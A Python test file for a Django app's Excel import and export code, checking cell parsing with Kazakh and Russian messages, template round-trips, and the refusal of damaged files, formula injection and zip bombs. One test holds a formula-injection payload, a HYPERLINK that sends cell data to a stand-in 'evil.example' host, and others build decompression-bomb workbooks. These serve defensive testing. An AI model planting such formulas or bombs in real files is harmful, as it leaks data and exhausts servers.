"""core/excel.py: every cell reader on good and bad values with its message in Kazakh and
Russian, files refused for what they are, errors by row and column marked back into the
workbook, and a template written, filled in with openpyxl and read back."""

from __future__ import annotations

import datetime
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from django.utils.translation import gettext_lazy as _
from openpyxl import Workbook, load_workbook
from tests.bombs import ratio, xlsx_bomb

from factories import OrganizationFactory, UserFactory
from kense.core.excel import (
    CODE_FORMAT,
    DATE_FORMAT,
    FIRST_DATA_ROW,
    LISTS_SHEET,
    META_SHEET,
    CellError,
    ImportColumn,
    ImportFileError,
    ImportRow,
    ImportSpec,
    Index,
    Mark,
    RowError,
    choice_index,
    collect_errors,
    limits_text,
    read_code,
    read_date,
    read_decimal,
    read_text,
    read_upload,
    read_whole_number,
    read_yes_no,
    table_workbook,
    template_workbook,
)
from kense.core.permissions import Role
from kense.registry.models import Organization

COLUMNS = (
    ImportColumn("name_kk", _("Name in Kazakh"), required=True),
    ImportColumn("bin", _("BIN"), number_format=CODE_FORMAT, width=16),
    ImportColumn("order", _("No."), width=8),
    ImportColumn("value", _("Value")),
    ImportColumn("start", _("From"), number_format=DATE_FORMAT),
    ImportColumn("is_event", _("An event")),
    ImportColumn("role", _("Role")),
)
SPEC = ImportSpec(title="Test import", sheet_title="Data", columns=COLUMNS)
MARKED = ImportSpec(
    title="Test import",
    sheet_title="Data",
    columns=COLUMNS,
    mark=Mark(
        prefix="kense-test-template v",
        version=2,
        missing="No mark.",
        outdated="Version %(found)s; Kense reads %(expected)s.",
        other="Another object.",
    ),
)
KEYS = [column.key for column in COLUMNS]


def refusal(call: Any, language: str) -> str:
    with translation.override(language), pytest.raises(CellError) as caught:
        call()
    return caught.value.message


# Reading cells


def test_text_is_trimmed_and_numbers_and_dates_read_as_people_typed_them() -> None:
    assert read_text(None) == ""
    assert read_text("  Нұра \n ауданы ") == "Нұра ауданы"
    assert read_text(12.0) == "12"
    assert read_text(12.5) == "12.5"
    assert read_text(datetime.datetime(2020, 1, 15, 10, 30)) == "15.01.2020"


def test_a_code_typed_as_a_number_gets_its_leading_zeros_back() -> None:
    assert read_code(51140000656, 12) == "051140000656"
    assert read_code(51140000656.0, 12) == "051140000656"
    assert read_code("0511", 12) == "0511"  # typed as text: as it is


def test_whole_numbers() -> None:
    assert read_whole_number(3) == 3
    assert read_whole_number(3.0) == 3
    assert read_whole_number(" 1 200 ") == 1200
    assert read_whole_number("-4") == -4
    assert read_whole_number("7", minimum=0, maximum=32767) == 7


@pytest.mark.parametrize(
    ("value", "shown"),
    [("3.5", "3.5"), (3.5, "3.5"), ("бес", "бес"), (True, "True"), ("²", "²"), ("-1", "-1")],
)
def test_what_is_not_a_whole_number(value: Any, shown: str) -> None:
    def read() -> int:
        return read_whole_number(value, minimum=0)

    assert refusal(read, "kk") == f"«{shown}» сан емес."
    assert refusal(read, "ru") == f"«{shown}» — не число."


def test_a_whole_number_beyond_its_bounds_is_refused() -> None:
    assert refusal(lambda: read_whole_number(40000, maximum=32767), "kk") == "«40000» сан емес."


def test_decimals_with_a_comma_or_a_dot_and_spaces_between_thousands() -> None:
    assert read_decimal(4) == Decimal(4)
    assert read_decimal(4.5) == Decimal("4.5")
    assert read_decimal("4,5") == Decimal("4.5")
    assert read_decimal("1 234,5") == Decimal("1234.5")
    assert read_decimal("1\u00a0234.5") == Decimal("1234.5")
    assert read_decimal("1\u202f234") == Decimal(1234)


@pytest.mark.parametrize("value", ["көп", "NaN", "Infinity", "1,2,3", True])
def test_what_is_not_a_decimal(value: Any) -> None:
    shown = read_text(value)
    assert refusal(lambda: read_decimal(value), "kk") == f"«{shown}» сан емес."
    assert refusal(lambda: read_decimal(value), "ru") == f"«{shown}» — не число."


def test_dates_from_date_cells_or_text() -> None:
    assert read_date(datetime.datetime(2020, 1, 15, 9)) == datetime.date(2020, 1, 15)
    assert read_date(datetime.date(2020, 1, 15)) == datetime.date(2020, 1, 15)
    assert read_date("15.01.2020") == datetime.date(2020, 1, 15)
    assert read_date("5.1.2020") == datetime.date(2020, 1, 5)


@pytest.mark.parametrize("value", ["2020-01-15", "31.02.2020", "ертең"])
def test_what_is_not_a_date(value: str) -> None:
    assert refusal(lambda: read_date(value), "kk") == (
        f"«{value}» күн емес: кк.аа.жжжж түрінде жазыңыз."
    )
    assert refusal(lambda: read_date(value), "ru") == (
        f"«{value}» — не дата: укажите её в виде дд.мм.гггг."
    )


@pytest.mark.parametrize(
    ("value", "answer"),
    [("иә", True), ("Жоқ", False), ("да", True), ("НЕТ", False), ("yes", True), (1, True)],
)
def test_yes_and_no_in_any_language(value: Any, answer: bool) -> None:
    with translation.override("en"):
        assert read_yes_no(value) is answer
    assert read_yes_no(True) is True


def test_what_is_neither_yes_nor_no() -> None:
    assert refusal(lambda: read_yes_no("мүмкін"), "kk") == (
        "«мүмкін»: «иә» немесе «жоқ» деп жазыңыз."
    )
    assert refusal(lambda: read_yes_no("может быть"), "ru") == (
        "«может быть»: напишите «да» или «нет»."
    )


def test_a_choice_by_its_value_or_its_label_in_any_language() -> None:
    roles = choice_index(Role)
    messages = {"missing": "No role «%(value)s».", "ambiguous": "Roles «%(value)s»."}

    assert roles.find_one("coordinator", **messages) == Role.COORDINATOR
    assert roles.find_one("Аумақ үйлестірушісі", **messages) == Role.COORDINATOR
    assert roles.find_one("координатор территории", **messages) == Role.COORDINATOR
    assert roles.find_one("Territory coordinator", **messages) == Role.COORDINATOR
    assert roles.find_one("Аумак уйлестірушісі", **messages) == Role.COORDINATOR  # folded
    with pytest.raises(CellError, match="No role «Әкім»"):
        roles.find_one("Әкім", **messages)


def test_a_reference_by_its_code_or_name_exact_spelling_first() -> None:
    index: Index[int] = Index(code_width=12)
    index.add(1, ["Нұра мектебі"], codes=["051140000656"])
    index.add(2, ["Нура мектебі"])  # folds as the first
    index.add(3, ["Шет мектебі"])
    index.add(4, ["Шет мектебі"])
    messages = {"missing": "None «%(value)s».", "ambiguous": "Several «%(value)s»."}

    assert index.find_one("нұра  МЕКТЕБІ", **messages) == 1
    assert index.find_one("Нура мектебі", **messages) == 2
    assert index.find_one("51140000656", **messages) == 1  # a BIN that lost its zero
    with pytest.raises(CellError, match="Several «Шет мектебі»"):
        index.find_one("Шет мектебі", **messages)
    with pytest.raises(CellError, match="None «Жоқ»"):
        index.find_one("Жоқ", **messages)


# Rows and their errors


def test_a_row_reads_its_cells_and_keeps_each_error_on_its_column() -> None:
    cells = {
        "name_kk": "",
        "bin": 51140000656,
        "order": "бір",
        "value": "4,5",
        "start": "2020-01-15",
        "is_event": "жоқ",
        "role": None,
    }
    row = ImportRow(7, cells, SPEC)
    with translation.override("kk"):
        row.required()
        assert row.code("bin", 12) == "051140000656"
        assert row.whole_number("order") is None
        assert row.decimal("value") == Decimal("4.5")
        assert row.date("start") is None
        assert row.yes_no("is_event") is False
        assert row.date("role") is None  # empty: no value, no error
        row.error("", "The row as a whole.")
        row.error("bin", "The same BIN as in row 5.")
        errors = collect_errors(SPEC, [row])

    assert errors == [
        RowError(7, "", "The row as a whole."),
        RowError(7, "Қазақша атауы", "Мәнді толтыру міндетті."),
        RowError(7, "БСН", "The same BIN as in row 5."),
        RowError(7, "№", "«бір» сан емес."),
        RowError(7, "Басталуы", "«2020-01-15» күн емес: кк.аа.жжжж түрінде жазыңыз."),
    ]
    assert [error.key for error in errors] == ["", "name_kk", "bin", "order", "start"]


# Files refused as a whole


def upload(content: bytes, name: str = "import.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def workbook_bytes(rows: list[list[Any]], keys: list[str] | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(keys or KEYS)
    sheet.append(keys or KEYS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def problems(content: bytes, language: str = "en", spec: ImportSpec = SPEC, pk: Any = None) -> Any:
    with translation.override(language), pytest.raises(ImportFileError) as caught:
        read_upload(upload(content), spec, pk=pk)
    return caught.value.problems


NOT_XLSX_KK = (
    "Файл Excel жұмыс кітабы (.xlsx) емес. Оны Excel-де «Excel жұмыс кітабы» түрінде сақтап, "
    "қайта жүктеңіз."
)
NOT_XLSX_RU = (
    "Файл не является книгой Excel (.xlsx). Сохраните его в Excel как «Книга Excel» и "
    "загрузите снова."
)


def test_an_xls_renamed_xlsx_is_refused() -> None:
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the old binary format
    assert problems(ole2, "kk") == [NOT_XLSX_KK]
    assert problems(ole2, "ru") == [NOT_XLSX_RU]


def test_a_truncated_workbook_is_refused() -> None:
    content = workbook_bytes([["Бір"]])
    assert problems(content[: len(content) // 2], "kk") == [NOT_XLSX_KK]


def test_a_workbook_whose_sheet_is_damaged_is_refused_while_reading_it() -> None:
    # The workbook opens (read-only reads sheets lazily); the damage shows only in its rows.
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes([["Бір"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as damaged:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            damaged.writestr(item, data)

    assert problems(buffer.getvalue(), "ru") == [NOT_XLSX_RU]


def test_an_empty_file_and_a_file_too_large_are_refused(settings: Any) -> None:
    assert problems(b"", "kk") == ["Файл бос."]
    assert problems(b"", "ru") == ["Файл пуст."]
    settings.KENSE_IMPORT_MAX_BYTES = 100
    assert problems(workbook_bytes([["Бір"]]))[0].startswith("The file is too large (")


def test_an_empty_sheet_is_not_the_template() -> None:
    buffer = io.BytesIO()
    Workbook().save(buffer)

    found = problems(buffer.getvalue(), "ru")

    assert found[0].startswith("Это не шаблон импорта")
    assert found[1] == "Не хватает столбцов: «Название на казахском языке»."


def test_a_template_without_rows_is_refused() -> None:
    assert problems(workbook_bytes([[], [None, "  "]]), "kk") == [
        "Файлда импортталатын жол жоқ: оларды 3-жолдан бастап толтырыңыз."
    ]


# The template, there and back


def test_a_template_written_filled_in_and_read_back(settings: Any) -> None:
    with translation.override("ru"):
        content = template_workbook(
            MARKED,
            rows=[["Бар", "000000000001", 1, 2.5, datetime.date(2020, 5, 1), "да", None]],
            lists={"role": [str(label) for label in Role.labels], "order": []},
            notes=["Для проверки."],
            marked=[42, "extra"],
        )
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Data", "Инструкция", LISTS_SHEET, META_SHEET]
    sheet = workbook["Data"]
    assert sheet["A1"].value == "Название на казахском языке *"
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A3"
    assert [cell.value for cell in sheet[2]] == KEYS
    assert sheet.row_dimensions[2].hidden
    assert sheet.column_dimensions["B"].width == 16
    assert sheet.column_dimensions["B"].number_format == CODE_FORMAT
    assert sheet["E3"].number_format == DATE_FORMAT
    lists = workbook[LISTS_SHEET]
    assert lists.sheet_state == "hidden"
    assert "Координатор территории" in {cell.value for cell in lists["A"]}
    (validation,) = sheet.data_validations.dataValidation
    assert str(validation.sqref) == f"G3:G{FIRST_DATA_ROW + settings.KENSE_IMPORT_MAX_ROWS}"
    assert validation.formula1 == f"{LISTS_SHEET}!$A$1:$A${len(Role.labels)}"
    instructions = workbook["Инструкция"]
    assert instructions["A1"].value == "Test import"
    assert instructions.cell(row=instructions.max_row, column=1).value == "Для проверки."
    meta = workbook[META_SHEET]
    assert meta.sheet_state == "hidden"
    assert [meta["A1"].value, meta["A2"].value, meta["A3"].value] == [
        "kense-test-template v2",
        42,
        "extra",
    ]

    sheet.append([])  # skipped
    sheet.append(["Жаңа", 51140000656, "2", "1 000,25", "15.01.2020", "жоқ", "Аумақ үйлестірушісі"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = read_upload(upload(buffer.getvalue()), MARKED, pk=42)

    assert [row.number for row in rows] == [3, 5]
    first, second = rows
    assert first.cells["start"] == datetime.datetime(2020, 5, 1)
    assert (second.text("name_kk"), second.code("bin", 12)) == ("Жаңа", "051140000656")
    assert (second.whole_number("order"), second.decimal("value")) == (2, Decimal("1000.25"))
    assert (second.date("start"), second.yes_no("is_event")) == (datetime.date(2020, 1, 15), False)
    roles = choice_index(Role)
    role = second.lookup("role", roles, missing="%(value)s", ambiguous="%(value)s")
    assert role == Role.COORDINATOR
    assert not first.errors and not second.errors

    assert problems(buffer.getvalue(), pk=43, spec=MARKED) == ["Another object."]
    workbook[META_SHEET]["A1"] = "kense-test-template v1"
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert problems(buffer.getvalue(), pk=42, spec=MARKED) == ["Version 1; Kense reads 2."]
    del workbook[META_SHEET]
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert problems(buffer.getvalue(), pk=42, spec=MARKED) == ["No mark."]


def test_columns_moved_or_dropped_are_read_by_their_keys() -> None:
    content = workbook_bytes([[5, "Бір"]], keys=["order", "name_kk"])

    (row,) = read_upload(upload(content), SPEC)

    assert row.cells == {"order": 5, "name_kk": "Бір"}


# Errors marked in the workbook


def test_a_list_export_has_a_bold_frozen_header_typed_dates_and_readable_widths() -> None:
    rows = [["Нұра ауданы", datetime.date(2020, 1, 15), Decimal("4.5"), None, Role.COORDINATOR]]

    sheet = load_workbook(io.BytesIO(table_workbook("A/B: [list]", list("ABCDE"), rows))).active

    assert sheet.title == "A B   list"  # no character Excel refuses in a sheet's name
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet["B2"].value == datetime.datetime(2020, 1, 15)
    assert sheet["B2"].number_format == DATE_FORMAT
    assert sheet["E2"].value == "coordinator"
    assert sheet.column_dimensions["A"].width == len("Нұра ауданы") + 2


# Exports of what anyone typed: never a live formula, never a file Excel cannot hold.


def test_a_text_that_starts_with_equals_is_exported_as_text_not_a_formula() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    data = table_workbook("List", ["Name"], [[hostile], ["=1+1"]])

    sheet = load_workbook(io.BytesIO(data)).active
    assert [(cell.value, cell.data_type) for cell in sheet["A"][1:]] == [
        (hostile, "s"),
        ("=1+1", "s"),
    ]


def test_control_characters_are_left_out_of_an_export_instead_of_breaking_it() -> None:
    data = table_workbook("List", ["Name"], [["Қарағанды\x00\x01\x0b облысы\tI\nII"]])

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "Қарағанды облысы\tI\nII"


def test_a_template_keeps_hostile_values_as_text_in_its_lists_and_rows() -> None:
    data = template_workbook(
        SPEC, rows=[["=2+2\x07", "", 1]], lists={"role": ["=SUM(1)", "ok\x1f"]}
    )

    workbook = load_workbook(io.BytesIO(data))
    row = workbook["Data"][FIRST_DATA_ROW]
    assert (row[0].value, row[0].data_type) == ("=2+2", "s")
    lists = workbook[LISTS_SHEET]
    assert [(cell.value, cell.data_type) for cell in lists["A"]] == [("=SUM(1)", "s"), ("ok", "s")]


@pytest.mark.django_db
def test_an_organization_named_like_a_formula_exports_as_its_name(client: Any) -> None:
    organization = OrganizationFactory(name_kk="=1+1 мектеп", name_ru="=1+1 школа")
    # Saved before control characters were refused: the export copes all the same.
    Organization.objects.filter(pk=organization.pk).update(name_kk="=1+1\x01 мектеп")
    client.force_login(UserFactory(role=Role.PROJECT_OFFICE))

    response = client.get("/kk/registry/organizations/?export=xlsx")

    assert response.status_code == 200
    names = [
        row[0]
        for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(
            min_row=2, values_only=True
        )
    ]
    assert names == ["=1+1 мектеп"]
    assert organization.pk


# Decompression bombs: refused from the ZIP directory, before openpyxl reads a row


def test_a_workbook_packed_like_a_zip_bomb_is_refused_before_it_is_read() -> None:
    content = xlsx_bomb(workbook_bytes([["Бір"]]))  # 100,000 blank rows, 20 KB
    times = int(ratio(content))
    assert times > 100

    assert problems(content) == [
        f"The file import.xlsx unpacks to {times} times its size (an ordinary document: at "
        "most 100 times), as a «zip bomb» does: it is not opened. Save it again in Excel or "
        "Word and upload it again."
    ]
    assert problems(content, "kk")[0].startswith(f"import.xlsx файлы өз көлемінен {times} есе")
    assert problems(content, "ru")[0].startswith(
        f"Файл import.xlsx распаковывается в {times} раз больше своего размера"
    )


def test_a_workbook_unpacking_past_the_limits_is_refused(settings: Any) -> None:
    content = workbook_bytes([["Бір"]] * 100)
    settings.KENSE_ZIP_MAX_BYTES = 10_000
    assert problems(content)[0].startswith("The file import.xlsx unpacks to ")
    assert problems(content)[0].endswith("; the limit is 9.8\xa0KB.")
    settings.KENSE_ZIP_MAX_BYTES = 50_000_000
    settings.KENSE_ZIP_MAX_MEMBERS = 5
    assert problems(content) == ["The file import.xlsx holds 9 parts; the limit is 5."]
    settings.KENSE_ZIP_MAX_MEMBERS = 1000
    # The parts openpyxl parses whole (styles, workbook, theme…), not its streamed sheets.
    settings.KENSE_ZIP_MAX_XML_BYTES = 1000
    assert problems(content)[0].startswith("The text and layout of the file import.xlsx")


def test_a_row_of_more_cells_than_any_template_is_refused(settings: Any) -> None:
    # Packed loosely enough to pass the ratio, a row of a million cells still took openpyxl a
    # gigabyte: no row may have more than KENSE_IMPORT_MAX_ROW_CELLS cells.
    settings.KENSE_ZIP_MAX_RATIO = 10_000
    content = xlsx_bomb(workbook_bytes([]), b"<row>" + b"<c><v>1</v></c>" * 100_000 + b"</row>")

    assert problems(content, "kk") == [
        "Файлдың бір жолында 1000 ұяшықтан көп: бұл импорт үлгісі емес. Жолдарыңызды үлгіге "
        "көшіріп, оны жүктеңіз."
    ]


def test_the_limits_are_written_as_numbers_are_in_each_language(settings: Any) -> None:
    settings.KENSE_IMPORT_MAX_ROWS = 20000
    with translation.override("ru"):
        assert "до 20\u00a0000 строк" in limits_text()
    with translation.override("en"):
        assert "up to 20,000 rows" in limits_text()


def test_a_sheet_going_on_past_twice_the_row_limit_is_refused_without_reading_it(
    settings: Any,
) -> None:
    # A few bytes may declare the millionth row; blank rows were read to the end of the sheet.
    settings.KENSE_IMPORT_MAX_ROWS = 2
    far = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t> </t></is></c></row>'

    assert problems(xlsx_bomb(workbook_bytes([["Бір"]]), far), "ru") == [
        "Лист продолжается после строки 6: в файле может быть не более 2 строк. Удалите "
        "строки ниже ваших данных или разделите его на несколько файлов."
    ]
    # Blank rows between filled ones are read, up to twice the limit.
    assert [row.number for row in read_upload(upload(workbook_bytes([[], ["Бір"]])), SPEC)] == [4]
